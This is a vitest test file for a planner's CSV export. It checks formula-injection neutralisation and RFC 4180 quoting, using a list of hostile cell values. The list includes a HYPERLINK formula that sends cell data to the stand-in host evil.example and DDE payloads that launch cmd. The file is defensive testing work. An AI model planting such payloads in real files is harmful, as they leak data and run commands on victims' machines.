// CSV hostile cells: formula injection neutralised (OWASP: = + - @ tab CR get a leading apostrophe)
// and quoting per RFC 4180 (a name with a line break, a quote or a comma keeps its row and column).
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { csvField, neutraliseFormula, renderCsv } from "../../planner/export/csv.js";
import { makeFixturePlan, makePlanSystem } from "./fixture-plan.js";

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  'Hệ thống "một cửa", dòng 1\ndòng 2',
  "Hệ thống\r\nxuống dòng kiểu Windows",
];

describe("csv", () => {
  it("neutralises what a spreadsheet would run as a formula, and nothing else", () => {
    expect(HOSTILE.slice(0, 6).map(neutraliseFormula)).toEqual(HOSTILE.slice(0, 6).map((h) => `'${h}`));
    for (const safe of ["Hệ thống thư điện tử", "2 + 2", " =x", "a=b", "Sở Y tế"]) expect(neutraliseFormula(safe)).toBe(safe);
  });

  it("quotes per RFC 4180", () => {
    expect(csvField("plain")).toBe("plain");
    expect(csvField('a "b", c')).toBe('"a ""b"", c"');
    expect(csvField("line\nbreak")).toBe('"line\nbreak"');
    expect(csvField("cr\ronly")).toBe('"cr\ronly"');
  });

  it("keeps every row and column of a plan whose names are hostile, with the names made inert", () => {
    const base = makeFixturePlan();
    const hostile = HOSTILE.map((name, i) => makePlanSystem({ id: `hostile-${i}`, name, disposition: "retain", site: "dc-bn", wave: undefined }));
    const plan = { ...base, systems: [...base.systems, ...hostile] };
    const systems = renderCsv({ plan, lang: "vi" }).find((f) => f.name === "systems.csv")!.content as string;
    expect(systems.startsWith("\uFEFF")).toBe(true);
    const rows = parse(systems.slice(1), { relax_quotes: false }) as string[][];
    expect(rows).toHaveLength(1 + plan.systems.length);
    expect(new Set(rows.map((r) => r.length))).toEqual(new Set([rows[0].length]));
    const names = new Map(rows.slice(1).map((r) => [r[0], r[1]]));
    HOSTILE.forEach((name, i) => expect(names.get(`hostile-${i}`)).toBe(/^[=+\-@\t\r]/.test(name) ? `'${name}` : name));
    // every line ends CRLF; the line breaks inside names are inside quotes
    expect(systems.endsWith("\r\n")).toBe(true);
  });
});
